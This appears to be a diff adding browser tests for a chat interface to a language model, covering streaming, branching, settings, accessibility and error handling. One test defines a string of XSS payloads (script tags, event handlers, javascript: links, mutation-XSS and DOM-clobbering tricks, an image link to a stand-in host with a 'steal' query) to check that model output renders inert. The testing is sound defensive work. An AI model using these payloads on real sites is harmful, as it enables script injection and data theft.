@@ -1,0 +1,373 @@
+"""The web page in a real Chromium, against a small server with scripted answers, and once against the real one."""
+
+import json
+import threading
+
+import pytest
+from page_browser import Site, expect
+from page_server import busy
+
+from llmchat.server.errors import BadRequest
+
+LONG = [f"Line {number} of a long answer.\n\n" for number in range(60)]
+
+
+def test_an_answer_appears_while_it_is_written(site: Site) -> None:
+    gate = threading.Event()
+    site.script.answers.append(["First **words**", gate, " and the rest."])
+    user = site.visit()
+    user.send("Hello")
+    expect(user.answer).to_have_text("First words")
+    expect(user.find(".message.assistant")).to_have_attribute("aria-busy", "true")
+    top, field = user.find(".message.user").bounding_box(), user.find("#composer").bounding_box()
+    gate.set()
+    expect(user.answer).to_have_text("First words and the rest.")
+    user.settled()
+    expect(user.find(".message.assistant")).to_have_attribute("aria-busy", "false")
+    expect(user.find(".meta")).to_contain_text("small · 2 tokens")
+    expect(user.find(".meta")).to_contain_text("tokens/s")
+    assert (user.find(".message.user").bounding_box(), user.find("#composer").bounding_box()) == (top, field), "the layout jumped"
+    assert user.find("#said").inner_text() == "The answer is complete."
+    assert site.request["messages"] == [{"role": "user", "content": "Hello"}]
+    assert site.request["stream_options"] == {"include_usage": True}
+
+
+def test_finished_blocks_are_not_drawn_again(site: Site) -> None:
+    gate = threading.Event()
+    site.script.answers.append(["One paragraph.\n\n```python\nprint(1)\n```\n\nNow ", gate, "[more][1].\n\n* and\n* more"])
+    user = site.visit()
+    user.send("Hello")
+    expect(user.answer).to_contain_text("Now")
+    user.page.evaluate("document.querySelectorAll('.block').forEach((block, index) => (block.mark = index))")
+    gate.set()
+    user.settled()
+    assert user.page.evaluate("[...document.querySelectorAll('.block')].map((block) => block.mark)") == [0, 1, None, None]
+    assert [item.strip() for item in user.find(".markdown li").all_inner_texts()] == ["and", "more"]
+
+
+def test_the_end_is_followed_until_the_user_scrolls_up(site: Site) -> None:
+    gate = threading.Event()
+    site.script.answers.append([*LONG, gate, "\n\nThe end."])
+    user = site.visit()
+    user.send("Hello")
+    expect(user.find(".block").last).to_have_text(LONG[-1].strip())
+    end = "document.querySelector('#scroller').scrollHeight - document.querySelector('#scroller').clientHeight"
+    place = "document.querySelector('#scroller').scrollTop"
+    user.page.wait_for_function(f"{end} > 500 && Math.abs({place} - ({end})) < 2")
+    user.page.evaluate("document.querySelector('#scroller').scrollTo(0, 100)")
+    expect(user.button("To the latest message")).to_be_visible()
+    gate.set()
+    user.settled()
+    assert user.page.evaluate(place) == 100
+    user.button("To the latest message").click()
+    user.page.wait_for_function(f"Math.abs({place} - ({end})) < 2")
+    expect(user.button("To the latest message")).to_be_hidden()
+
+
+def test_stop_keeps_the_text_and_ends_the_work(site: Site) -> None:
+    site.script.answers += [["A part of the", threading.Event()], [" whole."]]
+    user = site.visit()
+    user.send("Hello")
+    expect(user.answer).to_have_text("A part of the")
+    user.find("#input").press("Escape")
+    assert site.script.gone.wait(5), "the server was not told"
+    expect(user.find(".note")).to_contain_text("Stopped.")
+    user.reload()
+    assert user.said == ["Hello", "A part of the"]
+    user.button("Go on with this answer").click()
+    expect(user.answer).to_have_text("A part of the whole.")
+    assert site.request["messages"][-1] == {"role": "assistant", "content": "A part of the"}
+
+
+def test_another_answer_stands_beside_the_old_one(site: Site) -> None:
+    site.script.answers += [["Blue."], ["Red."], ["Because."]]
+    user = site.visit()
+    user.ask("A colour?")
+    user.button("Answer again").click()
+    expect(user.answer).to_have_text("Red.")
+    assert site.request["messages"] == [{"role": "user", "content": "A colour?"}]
+    expect(user.find(".switch")).to_contain_text("2 / 2")
+    user.button("Previous version").press("Enter")
+    expect(user.answer).to_have_text("Blue.")
+    user.reload()
+    assert user.said == ["A colour?", "Blue."]
+    user.ask("Why?")
+    assert [message["content"] for message in site.request["messages"]] == ["A colour?", "Blue.", "Why?"]
+    user.button("Next version").click()
+    assert user.said == ["A colour?", "Red."], "the other branch has no second turn"
+
+
+def test_an_edit_makes_a_branch(site: Site) -> None:
+    site.script.answers += [["Paris."], ["Rome."]]
+    user = site.visit()
+    user.ask("Capital of France?")
+    user.find("#input").press("ArrowUp")
+    area = user.page.get_by_label("Your message")
+    expect(area).to_be_focused()
+    assert area.input_value() == "Capital of France?"
+    area.fill("Capital of Italy?")
+    area.press("Enter")
+    expect(user.answer).to_have_text("Rome.")
+    user.settled()
+    assert site.request["messages"] == [{"role": "user", "content": "Capital of Italy?"}]
+    expect(user.find("#input")).to_be_focused()
+    user.button("Previous version").click()
+    assert user.said == ["Capital of France?", "Paris."]
+    user.button("Edit").click()
+    area.press("Escape")
+    assert user.said == ["Capital of France?", "Paris."] and len(site.script.requests) == 2
+
+
+def test_two_conversations_at_once(site: Site) -> None:
+    gate = threading.Event()
+    site.script.answers += [["Slow", gate, " but sure."], ["Quick."]]
+    user = site.visit()
+    user.send("The first")
+    expect(user.answer).to_have_text("Slow")
+    user.page.keyboard.press("Control+k")
+    expect(user.find("#welcome")).to_be_visible()
+    user.ask("The second")
+    assert user.said == ["The second", "Quick."] and user.titles == ["The second", "The first"]
+    gate.set()
+    expect(user.find(".dot")).to_have_count(0)
+    assert user.said == ["The second", "Quick."]
+    user.button("The first").click()
+    expect(user.answer).to_have_text("Slow but sure.")
+    user.page.go_back()
+    expect(user.answer).to_have_text("Quick.")
+    assert user.titles == ["The first", "The second"]
+
+
+def test_settings_reach_the_request(site: Site) -> None:
+    user = site.visit()
+    user.settings()
+    expect(user.page.get_by_label("Temperature")).to_have_attribute("placeholder", "0.6")
+    user.page.get_by_label("System text").fill("Answer in rhyme.")
+    user.page.get_by_label("Temperature").fill("0.25")
+    user.page.get_by_label("Top-k").fill("40")
+    user.page.get_by_label("Max tokens").fill("128")
+    user.page.get_by_label("Seed").fill("7")
+    user.page.get_by_label("Top-p").fill("3")
+    user.page.get_by_label("Stop at").fill("###\n\\nUser:")
+    expect(user.page.get_by_label("Top-p")).to_have_attribute("aria-invalid", "true")
+    user.ask("Hello")
+    request = site.request
+    assert request["messages"][0] == {"role": "system", "content": "Answer in rhyme."}
+    asked = {name: value for name, value in request.items() if name not in ("model", "messages", "stream", "stream_options")}
+    assert asked == {"temperature": 0.25, "top_k": 40, "max_tokens": 128, "seed": 7, "stop": ["###", "\nUser:"]}
+    user.reload()
+    user.settings()
+    assert user.page.get_by_label("System text").input_value() == "Answer in rhyme."
+    assert user.page.get_by_label("Stop at").input_value() == "###\n\\nUser:"
+    user.button("Reset").click()
+    user.button("Answer again").click()
+    user.settled()
+    assert "temperature" not in site.request and "stop" not in site.request
+
+
+def test_model_and_adapter_are_chosen(site: Site) -> None:
+    user = site.visit()
+    assert user.find("#model option").all_inner_texts() == ["Small", "Large one"]
+    assert user.find("#adapter option").all_inner_texts() == ["no adapter", "poet", "pirate"]
+    user.find("#adapter").select_option("pirate")
+    user.settings()
+    user.page.get_by_label("Adapter strength").fill("0.5")
+    user.ask("Hello")
+    assert site.request["model"] == "small+pirate:0.5"
+    user.find("#model").select_option("large")
+    expect(user.find("#adapter")).to_be_hidden()
+    user.ask("Hello again")
+    assert site.request["model"] == "large"
+    assert site.request["messages"][0] == {"role": "system", "content": "Be exact."}, "the model's own system text"
+
+
+EVIL = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
+![picture](https://evil.example/steal?q=secret) [click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>)
+<svg onload="window.hacked = 5"><iframe src="https://evil.example"></iframe> <b onclick="window.hacked = 6">bold</b>
+[x](https://good.example "a\\" onmouseover=\\"window.hacked=7") <style>body { display: none }</style> <form action="https://evil.example"><input name=q></form>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">
+```"><script>window.hacked = 9</script>
+code
+```
+<a id=createElement name=createElement href="//evil.example">clobber</a> <https://good.example/"onmouseover=window.hacked=10>"""
+
+
+def test_what_a_model_writes_is_inert(site: Site) -> None:
+    site.script.default = [EVIL, "\n\n", *EVIL]
+    user = site.visit()
+    user.ask(EVIL)
+    user.reload()
+    expect(user.answer).to_contain_text("window.hacked = 1")
+    user.answer.get_by_text("bold").first.click()
+    inside = user.page.evaluate("[...new Set([...document.querySelectorAll('.body *')].map((element) => element.localName))]")
+    assert set(inside) <= {"div", "p", "a", "b", "br", "pre", "code", "span", "button", "table", "tbody", "tr", "td"}
+    links = user.page.evaluate(
+        "[...document.querySelectorAll('.markdown a')].map((a) => [a.getAttribute('href'), a.rel, a.id, a.onmouseover])"
+    )
+    assert links and {href for href, *_ in links if href} <= {
+        "https://evil.example/steal?q=secret",
+        "https://good.example",
+        "https://good.example/%22onmouseover=window.hacked=10",
+    }
+    assert all(rest == ["noopener noreferrer nofollow", "", None] for _, *rest in links)
+    assert user.page.evaluate("window.hacked") is None
+
+
+def test_the_policy_holds_where_the_page_does_not(site: Site) -> None:
+    user = site.visit()
+    inline = "document.body.append(Object.assign(document.createElement('img'), {src: 'x'})); document.body.lastChild.setAttribute('onerror', 'window.hacked = 2')"
+    user.page.evaluate(inline)
+    with pytest.raises(Exception, match="TrustedHTML"):
+        user.page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
+    blocked = user.page.evaluate("fetch('https://evil.example').then(() => 'sent', () => 'blocked')")
+    assert blocked == "blocked" and user.page.evaluate("window.hacked") is None
+    user.faults.clear()
+
+
+def test_dark_and_light(site: Site) -> None:
+    user = site.visit(color_scheme="dark")
+    brightness = (
+        "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g).slice(0, 3).reduce((sum, part) => sum + Number(part), 0)"
+    )
+    assert user.page.evaluate(brightness) < 150
+    user.button("Theme: auto").click()
+    assert user.page.evaluate(brightness) > 700
+    user.reload()
+    assert user.page.evaluate(brightness) > 700
+    user.button("Theme: light").click()
+    user.button("Theme: dark").click()
+    user.page.emulate_media(color_scheme="light")
+    assert user.page.evaluate(brightness) > 700
+
+
+WIDE = [
+    "A" * 300,
+    "\n\n```\n",
+    "x = " + "1 + " * 100,
+    "\n```\n\n",
+    "| " + " | ".join(f"column {n}" for n in range(12)) + " |\n" + "|---" * 12 + "|\n",
+]
+
+
+@pytest.mark.parametrize(("width", "height"), [(360, 640), (320, 568)])
+def test_a_phone_needs_no_sideways_scrolling(site: Site, width: int, height: int) -> None:
+    site.script.answers.append(WIDE)
+    user = site.visit()
+    user.page.set_viewport_size({"width": width, "height": height})
+    user.ask("https://example.org/" + "a" * 200)
+    sideways = "[...document.querySelectorAll('html, body, #main, #scroller, #composer, aside')].filter((e) => e.scrollWidth > e.clientWidth + 1).map((e) => e.id)"
+    assert user.page.evaluate(sideways) == []
+    expect(user.find("#sidebar")).to_be_hidden()
+    user.button("Conversations").click()
+    expect(user.button("Close the list")).to_be_focused()
+    assert user.page.evaluate(sideways) == []
+    user.page.keyboard.press("Escape")
+    expect(user.find("#sidebar")).to_be_hidden()
+    expect(user.button("Conversations")).to_be_focused()
+    user.settings()
+    assert user.page.evaluate(sideways) == []
+    user.find("#backdrop").click(position={"x": 5, "y": 5})
+    expect(user.find("#panel")).to_be_hidden()
+    expect(user.find("#send")).to_be_in_viewport()
+
+
+def test_by_keyboard_alone(site: Site) -> None:
+    site.script.answers += [["One."], ["Two."], ["Three", threading.Event()]]
+    user = site.visit()
+    keys = user.page.keyboard
+    expect(user.find("#input")).to_be_focused()
+    keys.type("First line")
+    keys.press("Shift+Enter")
+    keys.type("second line")
+    keys.press("Enter")
+    expect(user.answer).to_have_text("One.")
+    user.settled()
+    assert site.request["messages"][0]["content"] == "First line\nsecond line"
+    for _ in range(30):
+        if user.page.evaluate("document.activeElement.ariaLabel") == "Answer again":
+            break
+        keys.press("Shift+Tab")
+    keys.press("Enter")
+    expect(user.answer).to_have_text("Two.")
+    user.settled()
+    keys.type("Go on")
+    keys.press("Enter")
+    expect(user.answer).to_have_text("Three")
+    keys.press("Escape")
+    expect(user.find(".note").last).to_contain_text("Stopped.")
+    keys.press("Control+k")
+    expect(user.find("#welcome")).to_be_visible()
+    expect(user.find("#input")).to_be_focused()
+    unnamed = "[...document.querySelectorAll('button, input, select, textarea')].filter((e) => !e.ariaLabel && !e.labels?.length && !e.innerText.trim() && e.checkVisibility())"
+    assert user.page.evaluate(f"{unnamed}.map((e) => e.outerHTML)") == []
+
+
+def test_a_busy_server_is_asked_again(site: Site) -> None:
+    site.script.answers += [[busy(1)], ["At last."]]
+    user = site.visit()
+    user.send("Hello")
+    expect(user.find(".note")).to_contain_text("Trying again in 1 s")
+    expect(user.answer).to_have_text("At last.")
+    user.settled()
+    assert len(site.script.requests) == 2 and user.find(".note").inner_text() == ""
+
+
+@pytest.mark.parametrize(
+    ("fault", "told"), [(RuntimeError("the model broke"), "the model broke"), (ConnectionError(), "connection was lost")]
+)
+def test_an_error_in_the_middle_keeps_the_text(site: Site, fault: Exception, told: str) -> None:
+    site.script.answers += [["Half ", 0.05, fault], ["Whole."]]
+    user = site.visit()
+    user.ask("Hello")
+    expect(user.find(".note")).to_contain_text(told)
+    expect(user.answer).to_have_text("Half")
+    user.button("Try again").click()
+    expect(user.answer).to_have_text("Whole.")
+    expect(user.find(".switch")).to_contain_text("2 / 2")
+
+
+def test_a_full_window_is_the_users_choice(site: Site) -> None:
+    site.script.answers += [[BadRequest("too long", code="context_length_exceeded")], ["Short."]]
+    user = site.visit()
+    user.ask("Hello")
+    expect(user.find(".note")).to_contain_text("too long")
+    assert "truncation" not in site.request
+    user.button("Leave the oldest messages out").click()
+    expect(user.answer).to_have_text("Short.")
+    assert site.request["truncation"] == "auto" and user.find(".switch").count() == 0
+
+
+def test_a_key_is_asked_for_and_kept(site: Site) -> None:
+    site.script.key = "secret"
+    page = site.browser.new_page()
+    page.goto(site.url)
+    page.get_by_label("API key").fill("secret")
+    page.get_by_label("API key").press("Enter")
+    page.wait_for_selector("html[data-ready]", state="attached")
+    page.locator("#input").fill("Hello")
+    page.locator("#input").press("Enter")
+    expect(page.locator(".answer, .message.assistant .body")).to_have_text("This is an answer.")
+    assert set(site.script.keys) == {"", "Bearer secret"}
+    page.close()
+
+
+def test_code_is_copied_as_it_is(site: Site) -> None:
+    site.script.answers.append(["```html\n<b>&amp;</b>\n\n  two\n```\n"])
+    user = site.visit(permissions=["clipboard-read", "clipboard-write"])
+    user.ask("Code?")
+    user.button("Copy code").click()
+    expect(user.button("Copy code")).to_have_text("Copied")
+    assert user.page.evaluate("navigator.clipboard.readText()") == "<b>&amp;</b>\n\n  two"
+
+
+def test_what_was_sent_can_be_seen(site: Site) -> None:
+    site.script.answers.append([{"thinking": "Let me see."}, "Yes."])
+    user = site.visit()
+    user.ask("Is it?")
+    user.find("summary").click()
+    expect(user.find(".thought")).to_have_text("Let me see.")
+    user.button("What was sent").click()
+    shown = json.loads(user.find("#sent pre").first.inner_text())
+    assert shown == site.request
+    user.page.keyboard.press("Escape")
+    expect(user.find("#sent")).to_be_hidden()
